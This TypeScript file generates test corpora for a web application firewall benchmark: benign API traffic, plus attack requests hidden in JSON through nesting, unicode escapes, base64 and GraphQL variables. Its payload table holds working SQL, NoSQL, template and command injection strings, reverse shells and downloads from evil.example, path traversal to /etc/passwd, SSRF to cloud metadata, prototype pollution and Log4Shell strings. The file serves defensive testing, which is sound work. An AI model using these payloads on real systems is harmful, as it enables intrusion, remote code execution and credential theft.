/**
 * Deterministic generator of the WAF API-profile corpora (issue 5):
 * - `clean.json`: realistic API traffic that must pass (REST writes, JSON:API, GraphQL with variables, CMS
 *   editor HTML, code snippets in issue comments, prose with SQL- and shell-sounding words, NDJSON, searches);
 * - `attacks.json`: API attacks hidden in JSON (nested fields, keys, arrays, `\u` escapes, JSON inside strings,
 *   base64, percent-encoding, GraphQL variables and literals) in eight families.
 *
 * Run: `node bench/waf/corpus/generate.ts` (writes both files next to this script; same output every run).
 * The files are committed; test/integration/waf-api-profile.test.ts reads them and checks they are current.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** One corpus request. `body` is UTF-8 text; `family`/`technique` only in the attack corpus. */
export interface CorpusRequest {
  readonly id: string;
  readonly kind: string;
  readonly family?: string;
  readonly technique?: string;
  readonly method: string;
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string;
}

/** mulberry32: a small seeded PRNG, so the corpora are the same on every run. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rnd = prng(0x5eed_2026);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)] as T;
const int = (lo: number, hi: number): number => lo + Math.floor(rnd() * (hi - lo + 1));

const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'curl/8.5.0',
  'python-requests/2.32.3',
  'okhttp/4.12.0',
  'axios/1.7.9',
  'Go-http-client/2.0',
];
const JWT =
  'eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6ImsxIn0.eyJzdWIiOiJ1c2VyXzQyIiwic2NvcGUiOiJyZWFkIHdyaXRlIiwiaWF0IjoxNzM1Njg5NjAwfQ.c2lnbmF0dXJlLWJ5dGVzLW5vdC1yZWFs';

function headers(ct: string | null, body: string): Record<string, string> {
  const ua = pick(AGENTS);
  const h: Record<string, string> = {
    'user-agent': ua,
    accept: ua.startsWith('Mozilla') ? 'application/json, text/plain, */*' : 'application/json',
    authorization: `Bearer ${JWT}`,
  };
  if (ct !== null) h['content-type'] = ct;
  if (ua.startsWith('curl') && body.length > 0 && rnd() < 0.5) h.expect = '100-continue';
  if (rnd() < 0.3) h['x-request-id'] = `req-${int(100000, 999999)}`;
  return h;
}

const FIRST = [
  'Ada',
  'Grace',
  'Linus',
  'Margaret',
  'Ken',
  'Barbara',
  'Dennis',
  'Frances',
  'José',
  'Zoë',
  'Ngozi',
];
const LAST = [
  'Lovelace',
  'Hopper',
  "O'Brien",
  'Hamilton',
  'Thompson',
  'Liskov',
  'Ritchie',
  'Allen',
  'Müller',
];
const CITIES = ['London', 'Zürich', 'São Paulo', 'Lagos', 'Portland', 'Kyoto', 'Montréal'];
const PROSE = [
  'The select committee will publish its report on Tuesday.',
  'Doctors recommend you sleep 8 hours a night; I rarely manage it.',
  'We bought a drop table tennis set for the office, the one that folds away.',
  'The union of workers voted to accept the new contract.',
  'Please update the delivery address: the old one is wrong.',
  'Insert the card, then select your language and press OK.',
  'Where is the order from last week? It says shipped but nothing arrived.',
  'Can you delete my account and all data from your systems, as per GDPR?',
  'I tried to exec the script but it failed with exit code 1 & nothing logged.',
  'The cat sat on the mat; then the dog ran off with the shoe.',
  'Having a bad day? Grab a coffee and let’s sync at 3pm.',
  'Join us for the "Select & Create" workshop — drop in anytime between 2 and 4.',
  'Our ping pong table and the union jack flag arrived — order #1234 is complete.',
  'Is 1 = 1 always true? In maths, yes; in my spreadsheet, apparently not.',
  'Update: the table of contents now lists chapters from 1 to 12.',
  'My password reset link expired, can you send another one?',
  'Net revenue was up 12% (vs. 9% last year) and the board approved the budget.',
  'Tip: use `git log --oneline` to see recent commits.',
  'The wget of the file was slow, so I used the mirror in Frankfurt instead.',
  'She said: "drop everything and come here!"',
  'from the union station, take the bus to the end of the line and walk.',
  'Sorry, I had to cancel — I need to sleep and rest for a couple of days.',
  'Please select all that apply and then press submit.',
  'We need to update the table with the new prices before Friday.',
  "The workers' union (and the committee) met; results from the vote are attached.",
  "Delete from the list anyone who hasn't replied by noon.",
  "He said 'or else' and left — typical.",
  'The cat command in our CLI prints the file; try `cat notes.txt`.',
  "Sleep well! We'll drop by at 10 and bring the table.",
  'Order by date, then by name, and group the rest.',
  "Insert into the slot marked 'A', then rotate clockwise.",
  "It's 50% off; use code SAVE50 at checkout & enjoy.",
  'Run the benchmark twice; the second run (warm cache) is what counts.',
  "I can't log in — it says 'invalid user or password' every time.",
  'Set the timer for 1 hour; if it rings, exec the backup plan.',
  "Is O'Reilly's book on SQL any good? I want to learn joins.",
  "Meeting notes: 1) budget; 2) hiring; 3) 'union' negotiations — skip if short on time.",
  'Path: Settings > Account > Delete account (this cannot be undone).',
  'Our address is 1/2 Church Lane, not 12 Church Lane.',
  'Does the alert() in the docs example still work with the new SDK?',
  'The script tag must be in the head, per the integration guide.',
  'Windows users: open C:\\Program Files\\Acme and run setup.exe.',
];
const HTML = [
  '<p>Welcome to our <strong>spring release</strong>! Read the <a href="https://example.com/docs/changelog">changelog</a>.</p>',
  '<h2>Getting started</h2><p>Install the CLI, then run <code>gh auth login</code>.</p><ul><li>Fast</li><li>Secure</li></ul>',
  '<p><em>Note:</em> the office is closed on <strong>Friday</strong>.</p><p>See <a href="/events/2026/holiday" target="_blank" rel="noopener">the calendar</a>.</p>',
  '<blockquote><p>Simplicity is prerequisite for reliability.</p></blockquote><p>— Edsger W. Dijkstra</p>',
  '<p><img src="https://cdn.example.com/img/team.jpg" alt="Our team at the offsite" width="640"></p><p>Photo by Jo.</p>',
  '<table><thead><tr><th>Plan</th><th>Price</th></tr></thead><tbody><tr><td>Pro</td><td>$12</td></tr></tbody></table>',
  '<p>Questions? <a href="mailto:support@example.com">Email us</a> or call <strong>+44 20 7946 0958</strong>.</p>',
  '<p style="text-align:center"><span style="color:#d33">Sale ends soon</span></p>',
];
const CODE = [
  'Repro:\n```sql\nSELECT u.id, u.email FROM users u LEFT JOIN orders o ON o.user_id = u.id WHERE o.id IS NULL;\n```\nReturns 0 rows on 15.2.',
  "This query times out:\n```sql\nselect count(*) from events where created_at > now() - interval '7 days' group by type order by 1 desc;\n```",
  'Workaround until the fix lands:\n```sh\nrm -rf node_modules && npm ci && npm run build\n```',
  'Install with `curl -fsSL https://get.example.dev/install.sh | sh` then run `example --version`.',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
  'Stack:\n```js\nconst res = await fetch(`/api/items?page=${page}`);\nif (!res.ok) throw new Error(res.statusText);\n```',
  'Fixed by changing the migration to\n```sql\nALTER TABLE accounts ADD COLUMN deleted_at timestamptz;\nUPDATE accounts SET deleted_at = NULL;\n```',
  'Steps: `docker compose up -d`, then `docker exec -it db psql -U postgres -c "\\dt"`.',
  'The regex `^[a-z0-9_-]{3,16}$` rejects names with dots; should we allow them?',
  'Try:\n```python\nfor row in cursor.execute("SELECT name FROM sqlite_master WHERE type=\'table\'"):\n    print(row)\n```',
  '```bash\nfor f in *.log; do gzip "$f"; done\ncat /var/log/app/error.log | grep -i timeout | tail -n 50\n```',
  'In React: `useEffect(() => { document.title = title; }, [title]);` fixes the stale title.',
  'UNION of the two result sets: `SELECT id FROM a UNION SELECT id FROM b` — duplicates are removed.',
];
const WORDS = [
  'invoice',
  'kettle',
  'sunrise',
  'ledger',
  'harbour',
  'pixel',
  'meadow',
  'quartz',
  'atlas',
  'ember',
];

function sentence(): string {
  return pick(PROSE);
}

function person(): Record<string, unknown> {
  const first = pick(FIRST);
  const last = pick(LAST);
  return {
    name: `${first} ${last}`,
    email: `${first
      .toLowerCase()
      .normalize('NFD')
      .replace(/[^a-z]/g, '')}.${int(1, 999)}@example.com`,
    role: pick(['admin', 'editor', 'viewer', 'billing']),
    address: {
      street: `${int(1, 250)} ${pick(['High St', 'Main Street', 'Rue de la Paix'])}`,
      city: pick(CITIES),
    },
    marketing_opt_in: rnd() < 0.5,
  };
}

const clean: CorpusRequest[] = [];
function addClean(kind: string, method: string, path: string, ct: string | null, body: string): void {
  clean.push({ id: `c${clean.length + 1}`, kind, method, path, headers: headers(ct, body), body });
}
const json = (v: unknown): string => JSON.stringify(v);

for (let i = 0; i < 70; i++) {
  const r = i % 5;
  if (r === 0) addClean('rest-write', 'POST', '/api/v1/users', 'application/json', json(person()));
  else if (r === 1)
    addClean(
      'rest-write',
      'PUT',
      `/api/v1/products/${int(1, 9999)}`,
      'application/json; charset=utf-8',
      json({
        sku: `SKU-${int(1000, 9999)}`,
        title: `${pick(WORDS)} ${pick(WORDS)}`,
        description: sentence(),
        price: { amount: int(100, 99999) / 100, currency: pick(['EUR', 'USD', 'GBP']) },
        tags: [pick(WORDS), pick(WORDS)],
        stock: int(0, 500),
      }),
    );
  else if (r === 2)
    addClean(
      'rest-write',
      'PATCH',
      `/api/v1/orders/${int(1, 99999)}`,
      'application/merge-patch+json',
      json({ status: pick(['shipped', 'cancelled', 'refunded']), note: sentence(), tracking: null }),
    );
  else if (r === 3)
    addClean(
      'rest-write',
      'PATCH',
      `/api/v1/users/${int(1, 9999)}`,
      'application/json-patch+json',
      json([
        { op: 'replace', path: '/address/city', value: pick(CITIES) },
        { op: 'add', path: '/tags/-', value: pick(WORDS) },
        { op: 'remove', path: '/legacy_id' },
      ]),
    );
  else addClean('rest-write', 'DELETE', `/api/v1/orders/${int(1, 99999)}/items/${int(1, 50)}`, null, '');
}
for (let i = 0; i < 60; i++) {
  addClean(
    'jsonapi',
    i % 3 === 0 ? 'PATCH' : 'POST',
    `/api/articles${i % 3 === 0 ? `/${int(1, 999)}` : ''}`,
    'application/vnd.api+json',
    json({
      data: {
        type: 'articles',
        ...(i % 3 === 0 ? { id: String(int(1, 999)) } : {}),
        attributes: {
          title: `${sentence().slice(0, 40)}`,
          summary: sentence(),
          'published-at': '2026-03-01T09:00:00Z',
        },
        relationships: { author: { data: { type: 'people', id: String(int(1, 99)) } } },
      },
    }),
  );
}
const GQL = [
  {
    q: 'query GetUser($id: ID!) {\n  user(id: $id) {\n    id\n    name\n    orders(first: 10, status: "open") { edges { node { id total } } }\n  }\n}',
    v: () => ({ id: `user_${int(1, 9999)}` }),
    op: 'GetUser',
  },
  {
    q: 'mutation CreateComment($input: CommentInput!) {\n  createComment(input: $input) { id createdAt }\n}',
    v: () => ({ input: { postId: String(int(1, 999)), body: sentence() } }),
    op: 'CreateComment',
  },
  {
    q: 'query Search($term: String!, $after: String) {\n  search(query: $term, first: 20, after: $after) {\n    nodes { ... on Product { id title } ... on Article { id headline } }\n    pageInfo { hasNextPage endCursor }\n  }\n}',
    v: () => ({
      term: pick(['select committee', 'union station', 'drop table tennis', 'sleep mask', 'kettle']),
      after: null,
    }),
    op: 'Search',
  },
  {
    q: '# Dashboard query: select only the fields we render\nquery Dashboard {\n  viewer { login notifications(unread: true) { totalCount } }\n  repository(owner: "acme", name: "web") { issues(states: OPEN) { totalCount } }\n}',
    v: () => ({}),
    op: 'Dashboard',
  },
  {
    q: 'mutation UpdateProfile($bio: String, $site: URL) {\n  updateProfile(bio: $bio, website: $site) { id bio }\n}',
    v: () => ({ bio: sentence(), site: 'https://example.org/~ada' }),
    op: 'UpdateProfile',
  },
];
for (let i = 0; i < 80; i++) {
  const g = GQL[i % GQL.length] as (typeof GQL)[number];
  if (i % 8 === 7) addClean('graphql', 'POST', '/graphql', 'application/graphql', g.q);
  else
    addClean(
      'graphql',
      'POST',
      '/graphql',
      'application/json',
      json({ query: g.q, variables: g.v(), operationName: g.op }),
    );
}
for (let i = 0; i < 70; i++) {
  addClean(
    'cms-html',
    i % 2 === 0 ? 'POST' : 'PUT',
    i % 2 === 0 ? '/api/cms/pages' : `/api/cms/pages/${int(1, 500)}`,
    'application/json',
    json({
      title: sentence().slice(0, 50),
      slug: `${pick(WORDS)}-${pick(WORDS)}-${int(1, 99)}`,
      body: { html: `${pick(HTML)}${pick(HTML)}`, format: 'html' },
      seo: { description: sentence() },
      status: pick(['draft', 'published']),
    }),
  );
}
for (let i = 0; i < 70; i++) {
  addClean(
    'issue-comment',
    'POST',
    `/api/repos/acme/web/issues/${int(1, 4000)}/comments`,
    'application/json',
    json({ body: pick(CODE), comments: [{ text: pick(CODE), author: pick(FIRST) }], notify: true }),
  );
}
for (let i = 0; i < 80; i++) {
  const r = i % 4;
  if (r === 0)
    addClean(
      'prose',
      'POST',
      '/api/support/tickets',
      'application/json',
      json({ subject: sentence().slice(0, 60), message: `${sentence()} ${sentence()}`, customer: person() }),
    );
  else if (r === 1)
    addClean(
      'prose',
      'POST',
      '/api/reviews',
      'application/json',
      json({ rating: int(1, 5), text: `${sentence()} ${sentence()}` }),
    );
  else if (r === 2)
    addClean(
      'search',
      'GET',
      `/api/search?q=${encodeURIComponent(pick(['select committee report', 'sleep 8 hours', 'drop table tennis', 'union of workers', 'where to buy', 'update firmware']))}&page=${int(1, 9)}&sort=-created_at`,
      null,
      '',
    );
  else
    addClean(
      'prose',
      'POST',
      '/api/chat/messages',
      'application/json',
      json({
        channel: `#${pick(WORDS)}`,
        text: sentence(),
        mentions: [`@${pick(FIRST).toLowerCase()}`],
        attachments: [],
      }),
    );
}
for (let i = 0; i < 40; i++) {
  const r = i % 4;
  if (r === 0) {
    const lines = Array.from({ length: int(2, 5) }, () =>
      json({
        event: pick(['page_view', 'click', 'signup']),
        ts: 1767225600 + int(0, 86400),
        props: { path: `/${pick(WORDS)}` },
      }),
    );
    addClean('ndjson', 'POST', '/api/events/bulk', 'application/x-ndjson', `${lines.join('\n')}\n`);
  } else if (r === 1)
    addClean('rest-read', 'GET', `/api/v1/users/${int(1, 9999)}?include=orders,address`, null, '');
  else if (r === 2) addClean('rest-read', 'HEAD', `/api/v1/files/${int(1, 9999)}`, null, '');
  else addClean('rest-read', 'OPTIONS', `/api/v1/orders`, null, '');
}
for (let i = 0; i < 40; i++) {
  // Realistic encoded content: base64 avatars/attachments, JSON settings stored as strings, encoded return URLs.
  const r = i % 4;
  if (r === 0)
    addClean(
      'encoded',
      'POST',
      '/api/uploads',
      'application/json',
      json({
        filename: `${pick(WORDS)}.png`,
        content_base64: Buffer.from(Array.from({ length: 96 }, () => int(0, 255))).toString('base64'),
      }),
    );
  else if (r === 1)
    addClean(
      'encoded',
      'PUT',
      `/api/v1/users/${int(1, 999)}/settings`,
      'application/json',
      json({
        prefs: json({
          theme: pick(['dark', 'light']),
          locale: pick(['en-GB', 'fr-CH', 'pt-BR']),
          digest: 'weekly',
        }),
      }),
    );
  else if (r === 2)
    addClean(
      'encoded',
      'POST',
      '/api/auth/callback',
      'application/json',
      json({
        return_to: encodeURIComponent(
          `https://app.example.com/dashboard?tab=${pick(WORDS)}&q=select committee`,
        ),
        state: `st_${int(1e6, 9e6)}`,
      }),
    );
  else
    addClean(
      'encoded',
      'POST',
      '/api/webhooks',
      'application/json',
      json({
        url: `https://hooks.example.com/${pick(WORDS)}/${int(1, 999)}`,
        secret_b64: Buffer.from(`whsec_${pick(WORDS)}${int(1000, 9999)}`).toString('base64'),
        events: ['order.created'],
      }),
    );
}

// ---------------------------------------------------------------------------------------------------------- attacks

const PAYLOADS: Record<string, readonly string[]> = {
  sql: [
    "1' OR '1'='1",
    '1 UNION SELECT username, password FROM users--',
    "'; DROP TABLE users; --",
    '1 AND SLEEP(5)',
    "admin'--",
    "' OR 1=1#",
    "1; WAITFOR DELAY '0:0:5'--",
    "' UNION ALL SELECT NULL,NULL,version()--",
    "1' AND extractvalue(1,concat(0x7e,(select user())))--",
  ],
  nosql: [
    '{"$ne": null}',
    '{"$gt": ""}',
    '{"$where": "sleep(5000) || true"}',
    '{"$regex": ".*", "$options": "i"}',
    '{"$in": ["admin", "root"]}',
    '{"$where": "this.password.match(/^a/)"}',
  ],
  template: [
    '{{7*7}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
    '${7*7}',
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    '<%= 7*7 %>',
    '#{7*7}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    '{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}',
  ],
  command: [
    '; cat /etc/passwd',
    '| id',
    '$(curl http://evil.example/x.sh | sh)',
    '`whoami`',
    '&& wget http://evil.example/s -O /tmp/s',
    '; nc -e /bin/sh 10.0.0.1 4444',
    '|| ping -c 10 127.0.0.1',
    '; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
  ],
  'path-traversal': [
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '....//....//....//etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '/var/www/images/../../../etc/shadow',
    '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://metadata.google.internal/computeMetadata/v1/instance/',
    'http://127.0.0.1:6379/',
    'gopher://127.0.0.1:11211/_stats',
    'file:///etc/passwd',
    'http://[::1]:8080/admin',
    'http://0x7f000001/',
    'http://2130706433/',
  ],
  'prototype-pollution': ['__proto__', 'constructor.prototype'],
  log4shell: [
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
    '${jndi:ldap://evil.example/a}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
    '${${lower:j}ndi:${lower:l}dap://x.example/a}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
    '${jndi:rmi://evil.example:1099/obj}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
    '${${::-j}${::-n}${::-d}${::-i}:ldap://e.example/x}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
    '${jndi:dns://evil.example/z}',
  ],
};

/** JSON text with every character outside [A-Za-z0-9 ] inside strings written as a `\u` escape. */
function uEscaped(value: unknown): string {
  return JSON.stringify(value, null, 0).replace(/"((?:[^"\\]|\\.)*)"/g, (_m, inner: string) => {
    const s = JSON.parse(`"${inner}"`) as string;
    return `"${[...s].map((c) => (/[A-Za-z0-9 ]/.test(c) ? c : `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)).join('')}"`;
  });
}

const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const SEARCH = 'query Search($q: String!) { search(query: $q, first: 10) { id title } }';

/** Hiding techniques for a value-borne payload: name → JSON body. */
const VALUE_TECHNIQUES: Record<string, (p: string) => string> = {
  nested: (p) => json({ data: { attributes: { profile: { bio: p, city: pick(CITIES) } } } }),
  array: (p) => json({ tags: [pick(WORDS), p, pick(WORDS)], count: 3 }),
  key: (p) => json({ filters: { [p]: '1', status: 'open' } }),
  'unicode-escape': (p) => uEscaped({ comment: { text: p } }),
  'json-in-string': (p) => json({ payload: json({ search: p, page: 1 }) }),
  base64: (p) => json({ data: b64(json({ q: p })), encoding: 'base64' }),
  'url-in-json': (p) => json({ redirect: encodeURIComponent(p) }),
  'double-url': (p) => json({ next: encodeURIComponent(encodeURIComponent(p)) }),
  'graphql-variables': (p) => json({ query: SEARCH, variables: { q: p }, operationName: 'Search' }),
  'graphql-literal': (p) => json({ query: `{ search(query: ${JSON.stringify(p)}, first: 10) { id } }` }),
};

/** Structural techniques for NoSQL operators and prototype pollution (the payload is a key path). */
function structural(family: string, p: string, technique: string): string {
  if (family === 'nosql') {
    const op = JSON.parse(p) as Record<string, unknown>;
    switch (technique) {
      case 'nested':
        return json({ user: { username: 'admin', password: op } });
      case 'array':
        return json({ filter: { $and: [{ role: 'admin' }, { password: op }] } });
      case 'json-in-string':
        return json({ where: json({ password: op }) });
      case 'base64':
        return json({ q: b64(json({ username: 'admin', password: op })) });
      case 'unicode-escape':
        return uEscaped({ login: { password: op } });
      default:
        return json({ query: SEARCH, variables: { q: op }, operationName: 'Search' });
    }
  }
  const inner =
    p === '__proto__' ? `{"__proto__":{"isAdmin":true}}` : `{"constructor":{"prototype":{"isAdmin":true}}}`;
  switch (technique) {
    case 'nested':
      return `{"user":{"settings":${inner}}}`;
    case 'array':
      return `{"items":[{"id":1},${inner}]}`;
    case 'json-in-string':
      return json({ prefs: inner });
    case 'base64':
      return json({ blob: b64(inner) });
    case 'unicode-escape':
      return inner
        .replace('__proto__', '\\u005f\\u005fproto\\u005f\\u005f')
        .replace('prototype', 'proto\\u0074ype');
    default:
      return json({ query: SEARCH, variables: { q: JSON.parse(inner) }, operationName: 'Search' });
  }
}

const attacks: CorpusRequest[] = [];
const STRUCTURAL_TECHNIQUES = [
  'nested',
  'array',
  'json-in-string',
  'base64',
  'unicode-escape',
  'graphql-variables',
];
for (const [family, payloads] of Object.entries(PAYLOADS)) {
  const structuralFamily = family === 'nosql' || family === 'prototype-pollution';
  const techniques = structuralFamily ? STRUCTURAL_TECHNIQUES : Object.keys(VALUE_TECHNIQUES);
  const n = 40;
  for (let i = 0; i < n; i++) {
    const technique = techniques[i % techniques.length] as string;
    const p = payloads[Math.floor(i / techniques.length + i) % payloads.length] as string;
    const body = structuralFamily
      ? structural(family, p, technique)
      : (VALUE_TECHNIQUES[technique] as (p: string) => string)(p);
    const gql = technique.startsWith('graphql');
    const path = gql
      ? '/graphql'
      : pick(['/api/v1/users', '/api/v1/search', '/api/items', '/api/v2/reports']);
    attacks.push({
      id: `a${attacks.length + 1}`,
      kind: 'attack',
      family,
      technique,
      method: gql ? 'POST' : pick(['POST', 'PUT', 'PATCH']),
      path,
      headers: headers('application/json', body),
      body,
    });
  }
}

/** Both corpora, as written to disk. */
export const corpora = { clean, attacks };

if (import.meta.main) {
  const dir = import.meta.dirname;
  // JSON.stringify with 2 spaces is also biome's format for these files.
  writeFileSync(join(dir, 'clean.json'), `${JSON.stringify(clean, null, 2)}\n`);
  writeFileSync(join(dir, 'attacks.json'), `${JSON.stringify(attacks, null, 2)}\n`);
  process.stdout.write(`clean: ${clean.length} requests, attacks: ${attacks.length} requests\n`);
}
